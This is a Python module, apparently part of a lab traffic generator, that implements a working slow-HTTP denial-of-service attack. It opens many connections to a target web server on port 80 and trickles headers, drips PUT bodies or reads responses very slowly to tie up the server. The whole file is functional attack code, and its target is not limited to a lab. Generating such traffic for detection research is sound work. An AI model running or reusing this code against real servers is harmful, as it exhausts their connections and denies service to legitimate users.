"""Slow HTTP: many connections that keep a web server waiting, by header, by body or by reading slowly."""

import time

from .sockets import connect


class SlowConnection:
    """One connection and when it acts next."""

    def __init__(self, task, way):
        self.way = way
        self.rng = task.rng
        self.drip = task.settings["drip"]
        self.sock = connect(task.target, 80, task.block, receive_buffer=2_048 if way == "read" else None)
        host = f"Host: www.lab.test\r\nUser-Agent: {task.rng.choice(('Mozilla/5.0', 'curl/7.88', 'client'))}\r\n"
        path = f"/page/{task.rng.randrange(30)}.html"
        if way == "header":
            self.sock.sendall(f"GET {path} HTTP/1.1\r\n{host}".encode())
        elif way == "body":
            path = f"/upload/{task.rng.getrandbits(32):x}"
            length = task.rng.randrange(2_000, 90_000)
            self.sock.sendall(f"PUT {path} HTTP/1.1\r\n{host}Content-Length: {length}\r\n\r\n".encode())
        else:
            self.sock.sendall(f"GET /large/{task.rng.randrange(8)}.bin HTTP/1.1\r\n{host}\r\n".encode())
        self.sock.settimeout(0.05)
        self.ends = time.monotonic() + task.rng.uniform(4, 45)
        self.schedule()

    def schedule(self):
        self.next = time.monotonic() + self.rng.uniform(*self.drip)

    def act(self):
        """One small step; False when the connection is over."""
        if time.monotonic() >= self.ends:
            return False
        try:
            if self.way == "header":
                self.sock.sendall(f"X-{self.rng.getrandbits(24):x}: {self.rng.getrandbits(32)}\r\n".encode())
            elif self.way == "body":
                self.sock.sendall(self.rng.randbytes(self.rng.randrange(1, 60)))
            elif not self.sock.recv(self.rng.randrange(50, 1_200)):
                return False
        except TimeoutError:
            pass  # Nothing to read yet.
        except OSError:
            return False
        self.schedule()
        return True


def slow_http(task):
    """Opens connections one after the other and feeds all of them a little from time to time."""
    made = 0
    open_connections = []
    while (made < task.settings["connections"] or open_connections) and not task.over():
        if made < task.settings["connections"]:
            made += 1
            try:
                open_connections.append(SlowConnection(task, task.rng.choice(task.settings["ways"])))
            except OSError:
                pass  # Refused: the flow is there all the same.
        now = time.monotonic()
        for connection in [one for one in open_connections if one.next <= now]:
            if not connection.act():
                connection.sock.close()
                open_connections.remove(connection)
        time.sleep(task.rng.uniform(0.02, 0.4))
    for connection in open_connections:
        connection.sock.close()
    return {"tool": "slow HTTP", "protocol": "tcp", "destination_ports": [80], "flows": made}
